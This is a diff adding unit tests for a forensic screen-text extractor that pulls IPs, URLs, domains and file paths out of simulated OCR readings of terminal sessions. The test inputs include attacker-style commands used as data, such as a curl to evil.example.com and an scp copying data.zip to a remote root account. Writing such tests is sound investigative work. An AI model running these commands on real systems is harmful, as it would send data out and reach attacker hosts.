@@ -1,0 +1,151 @@
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""Settled screen text: keystrokes are not values, frames vote, weak readings are uncertain.
+
+Pure logic: readings are built by hand (text, scores, per-character times), no OCR runs.
+"""
+
+from __future__ import annotations
+
+from desktop.ingest.screen_text import Reading, ScreenText, consensus, extends, similar
+
+BOX_H = 26
+
+
+def _reading(t: float, text: str, *, y: int = 100, x: int = 10, conf: float = 0.99,
+             weak: dict[int, float] | None = None, column: int = 0, frame: int | None = None,
+             times: list[float] | None = None, enhanced: str = "") -> Reading:
+    scores = [conf] * len(text)
+    for i, value in (weak or {}).items():
+        scores[i] = value
+    index = frame if frame is not None else round(t * 10)
+    return Reading(t, index, (x, y, 12 * len(text), BOX_H), text, sum(scores) / len(scores), tuple(scores),
+                   tuple(times) if times else None, column, enhanced)
+
+
+def _values(screen: ScreenText, status: str | None = None) -> dict[tuple[str, str], float]:
+    return {(o.found.type, o.found.value): o.time_s for o in screen.occurrences()
+            if status is None or o.status == status}
+
+
+def test_a_prefix_being_typed_is_never_an_indicator() -> None:
+    screen = ScreenText()
+    screen.add(_reading(1.0, "$ ping 185.14"))
+    screen.add(_reading(1.6, "$ ping 185.141.63.1"))
+    screen.add(_reading(2.2, "$ ping 185.141.63.120"))
+    screen.add(_reading(3.0, "$ cat /etc/host", y=130))
+    screen.add(_reading(3.4, "$ cat /etc/hosts", y=130))
+    found = _values(screen)
+    assert ("ipv4", "185.141.63.120") in found
+    assert ("ipv4", "185.141.63.1") not in found
+    assert ("file_path", "/etc/hosts") in found
+    assert ("file_path", "/etc/host") not in found
+
+
+def test_a_value_that_was_run_then_edited_is_still_an_indicator() -> None:
+    screen = ScreenText()
+    screen.add(_reading(1.0, "$ curl http://evil.example.com/a"))
+    screen.add(_reading(1.5, '{"status":"ok"}', y=130))  # output below: the command ran
+    screen.add(_reading(4.0, "$ curl http://evil.example.com/a.php"))  # recalled and edited
+    found = _values(screen)
+    assert ("url", "http://evil.example.com/a") in found
+    assert ("url", "http://evil.example.com/a.php") in found
+
+
+def test_a_typo_corrected_at_once_is_not_an_indicator() -> None:
+    screen = ScreenText()
+    screen.add(_reading(1.0, "$ ssh root@45.142.212.16"))
+    screen.add(_reading(1.4, "$ ssh root@45.142.212.61"))
+    found = _values(screen)
+    assert ("ipv4", "45.142.212.61") in found
+    assert ("ipv4", "45.142.212.16") not in found
+
+
+def test_first_seen_is_when_the_complete_value_was_visible() -> None:
+    text = "$ scp data.zip root@45.142.212.61:/tmp/"
+    start = text.index("45.")
+    # each character appeared 0.1 s after the previous one, from t = 1.0
+    times = [1.0 + 0.1 * i for i in range(len(text))]
+    screen = ScreenText()
+    screen.add(_reading(5.0, text, times=times))
+    occ = next(o for o in screen.occurrences() if o.found.value == "45.142.212.61")
+    assert abs(occ.time_s - times[start + len("45.142.212.61") - 1]) < 1e-6
+
+
+def test_frames_vote_per_character_weighted_by_confidence() -> None:
+    screen = ScreenText()
+    screen.add(_reading(1.0, "mail tips@protonma11.com", weak={20: 0.55, 21: 0.5}, frame=10))
+    screen.add(_reading(2.0, "mail tips@protonmail.com", frame=20))
+    screen.add(_reading(3.0, "mail tips@protonmail.com", frame=30))
+    occ = next(o for o in screen.occurrences() if o.found.type == "email")
+    assert occ.found.value == "tips@protonmail.com"
+    assert occ.frames_agree == 2
+    assert occ.reads == 3
+    assert occ.status == "uncertain"  # another frame read a confusable variant: recorded, not hidden
+    assert "tips@protonma11.com" in occ.alternatives
+
+
+def test_two_agreeing_frames_make_a_certain_reading() -> None:
+    screen = ScreenText()
+    screen.add(_reading(1.0, "relay mx2.mailpanel.ru", weak={12: 0.8}, frame=10))
+    screen.add(_reading(2.0, "relay mx2.mailpanel.ru", weak={12: 0.85}, frame=20))
+    occ = next(o for o in screen.occurrences() if o.found.type == "domain")
+    assert occ.status == "certain"
+    assert occ.frames_agree == 2
+
+
+def test_one_weak_reading_of_a_confusable_character_is_uncertain() -> None:
+    screen = ScreenText()
+    text = "host f1-voter-registration.org"
+    screen.add(_reading(1.0, text, weak={text.index("1"): 0.7}))
+    occ = next(o for o in screen.occurrences() if o.found.type == "domain")
+    assert occ.status == "uncertain"
+    screen = ScreenText()
+    screen.add(_reading(1.0, text))  # read confidently: certain
+    assert next(o for o in screen.occurrences() if o.found.type == "domain").status == "certain"
+
+
+def test_an_enhanced_reading_alone_is_labelled_enhanced() -> None:
+    screen = ScreenText()
+    screen.add(_reading(1.0, "Address: 1O3.8l.25.54", conf=0.6))
+    screen.add(_reading(1.0, "Address: 103.81.25.54", enhanced="contrast stretch"))
+    occ = next(o for o in screen.occurrences() if o.found.value == "103.81.25.54")
+    assert occ.status == "enhanced"
+    assert occ.enhanced == "contrast stretch"
+
+
+def test_windows_paths_differing_only_in_case_agree() -> None:
+    screen = ScreenText()
+    screen.add(_reading(1.0, r"PS> cd C:\Users\Operator\Desktop", frame=1))
+    screen.add(_reading(2.0, r"PS> cd C:\users\Operator\Desktop", frame=2))
+    paths = [o for o in screen.occurrences() if o.found.type == "file_path"]
+    assert len(paths) == 1
+    assert paths[0].frames_agree == 2
+
+
+def test_lines_that_scroll_are_followed_and_not_taken_for_edits() -> None:
+    screen = ScreenText()
+    screen.add(_reading(1.0, "64 bytes from 185.141.63.120", y=100))
+    screen.add(_reading(1.0, "Connection to 103.75.190.12 closed.", y=126))
+    screen.scroll(26, 1.3)  # one row up: the first line is now at y=74, the second at y=100
+    screen.add(_reading(1.3, "logout 91.219.236.18", y=126))
+    found = _values(screen)
+    assert {("ipv4", "185.141.63.120"), ("ipv4", "103.75.190.12"), ("ipv4", "91.219.236.18")} <= set(found)
+
+
+def test_a_value_wrapped_over_two_rows_is_joined() -> None:
+    screen = ScreenText()
+    screen.add(_reading(2.0, "inet xxxxxxxxxxxxxxxxxxxx 5.127.", x=10, y=100))
+    screen.add(_reading(2.0, "174.0/24 scope", x=10, y=126))
+    screen.add(_reading(2.5, "short line", x=10, y=152))
+    found = _values(screen)
+    assert ("cidr", "5.127.174.0/24") in found
+
+
+def test_helpers() -> None:
+    assert extends("$ ping 185.14", "$ ping 185.141.63.120")
+    assert not extends("$ ping 185.141.63.120", "$ ping 185.141.63.12")
+    assert similar("protonmail.com", "protonma1l.com")
+    assert not similar("ping 185.141.63.120", "cat /etc/hosts")
+    text, support = consensus([_reading(0, "ab1", weak={2: 0.4}), _reading(0, "abl"), _reading(0, "abl")])
+    assert text == "abl"
+    assert support[2] > 0.5
